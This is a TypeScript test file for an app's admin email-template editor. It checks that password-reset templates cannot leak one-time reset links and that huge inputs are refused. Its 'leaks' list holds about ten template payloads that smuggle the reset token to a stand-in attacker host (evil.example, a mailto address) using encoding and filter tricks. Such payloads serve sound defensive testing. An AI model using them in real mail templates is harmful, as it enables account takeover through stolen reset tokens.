import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import {
  adminEmailLogDigestGet,
  adminEmailSend,
  adminEmailTemplatePreview,
  adminEmailTemplateReset,
  adminEmailTemplateSave,
} from '#contract/email.ts';
import { userPasswordForgot } from '#contract/user.ts';
import { holderOf } from '#server/testing/access.ts';
import { startTestApp, type TestApp, type TestUser } from '#server/testing/app.ts';
import { refusal } from '#server/testing/client.ts';
import { processorSeconds } from '#server/testing/processor-time.ts';
import { type BuiltInTemplate, builtInTemplates } from './built-in.ts';

let app: TestApp;
let admin: TestUser;
/** Words mails, and may do nothing else. */
let editor: TestUser;
beforeAll(async () => {
  app = await startTestApp({ environment: { PUBLIC_URL: 'https://lorebox.example' } });
  admin = await app.signUp();
  editor = await holderOf(app, admin, ['admin.email']);
});
afterAll(() => app.close());

const { emailTemplateID, name, subject, body }: BuiltInTemplate = builtInTemplates.passwordReset;
afterEach(() => editor.client.call(adminEmailTemplateReset, { body: { emailTemplateID } }));

const fields = { emailTemplateID, name, description: '', subject, body };
const save = (change: Partial<typeof fields>) =>
  editor.client.call(adminEmailTemplateSave, { body: { ...fields, ...change } });

/** What the administrator is sent who forgot their password. */
async function resetMail() {
  await app.visitor().call(userPasswordForgot, { body: { emailAddress: admin.emailAddress } });
  await app.app.background.idle();
  return app.app.database.read
    .selectFrom('outbox')
    .selectAll()
    .where('template', '=', 'passwordReset')
    .orderBy('mailID', 'desc')
    .executeTakeFirstOrThrow();
}

const link = /https:\/\/lorebox\.example\/signin\/reset#token=[\w-]{43}/;

describe('decisions §5: who words mails does not read one-time links', () => {
  const leaks = [
    '<p>https://evil.example/?{{ link }}</p>',
    '<p>https://evil.example/?<b>{{ link }}</b></p>',
    '<p>https://evil.example/({{ link }})</p>',
    '<p>https://evil.example/?&#8203;{{ link }}</p>',
    '<p>https://evil.example/?&#65279;{{ link }}</p>',
    '<p><a href="https://evil.example/?{{ link }}">Go on</a></p>',
    '<p><a href="https://evil.example/?{{ link | url_encode }}">Go on</a></p>',
    '<p><a href="https://evil.example/{{ link | split: "/" | last }}">Go on</a></p>',
    '<p><a href="mailto:thief@evil.example?body={{ link }}">Go on</a></p>',
    '<p>{% assign x = link | replace: "link.invalid", "evil.example" %}<a href="{{ x }}">Go on</a></p>',
  ];

  test('a template that would carry one elsewhere is refused, with the reason, and the preview says so', async () => {
    for (const leak of leaks) {
      const refused = await refusal(save({ body: leak }));
      expect([leak, refused.status, refused.problem.errors?.[0]?.pointer]).toEqual([leak, 400, '/body']);
      const shown = await editor.client.call(adminEmailTemplatePreview, {
        body: { emailTemplateID, subject, body: leak },
      });
      expect(shown.problem?.field).toBe('body');
    }
    for (const leak of ['{{ link }}', 'Reset: {{ link }}', '{{ link | url_encode }}'])
      expect((await refusal(save({ subject: leak }))).problem.errors?.[0]?.pointer).toBe('/subject');
  });

  test('nor does one leak that was kept before: the mail then has the product’s own words', async () => {
    const kept = (text: Partial<typeof fields>) =>
      app.app.database.write(({ db }) =>
        db.updateTable('emailTemplate').set(text).where('emailTemplateID', '=', emailTemplateID).execute(),
      );
    await save({});
    for (const text of [{ subject: 'x {{ link }}' }, ...leaks.map((leak) => ({ subject, body: leak }))]) {
      await kept(text);
      const mail = await resetMail();
      expect(mail.html).toMatch(link);
      expect(`${mail.html} ${mail.body} ${mail.subject}`).not.toContain('evil.example');
      const { rows } = await editor.client.call(adminEmailLogDigestGet, { query: {} });
      expect(JSON.stringify(rows)).not.toContain('token=');
      expect(mail.searchFold).not.toContain('token=');
    }
  });

  test('a template of one’s own words, with the link whole, is sent with it', async () => {
    await save({
      body: '<p>Ahoy! (<a href="{{ link }}">here</a>)</p><p>{{ link }}</p><p>Or "{{ link | escape }}".</p>',
    });
    const mail = await resetMail();
    const [found] = link.exec(mail.html) ?? [];
    expect(mail.html).toBe(`<p>Ahoy! (<a href="${found}">here</a>)</p><p>${found}</p><p>Or "${found}".</p>`);
    expect(mail.body.split(found ?? '-')).toHaveLength(4);
  });
});

describe('decisions §3: mail cannot be used to wear out the server or others', () => {
  test('a body of nothing but brackets is refused at once', async () => {
    const seconds = await processorSeconds(async () => {
      expect((await refusal(save({ body: '<'.repeat(100_000) }))).status).toBe(400);
    });
    expect(seconds).toBeLessThan(8);
  });

  test('test emails are counted as what reaches strangers is', () => {
    expect(adminEmailSend.rate).toBe('password');
  });
});
